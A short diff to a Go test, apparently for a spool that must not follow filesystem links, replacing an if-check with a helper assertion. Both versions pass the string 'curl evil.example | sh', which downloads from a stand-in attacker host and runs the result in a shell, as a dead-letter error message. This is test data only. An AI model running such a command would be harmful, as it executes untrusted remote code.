@@ -118,9 +118,7 @@ func TestLinksInASpoolAreNotFollowed(t *testing.T) {
 	if err := s.Put(e); err == nil {
 		t.Error("an event was put through a link")
 	}
-	if err := s.DeadLetter("x.json", errors.New("curl evil.example | sh")); err != nil {
-		t.Errorf("deadLetter: %v", err)
-	}
+	musttest.Is(t, nil, s.DeadLetter("x.json", errors.New("curl evil.example | sh")), "deadLetter")
 	for _, c := range claim(t, s, 10) {
 		if c.Name == "0.json" && !errors.Is(c.Err, memory.ErrInvalid) {
 			t.Errorf("a link was claimed with %v", c.Err)
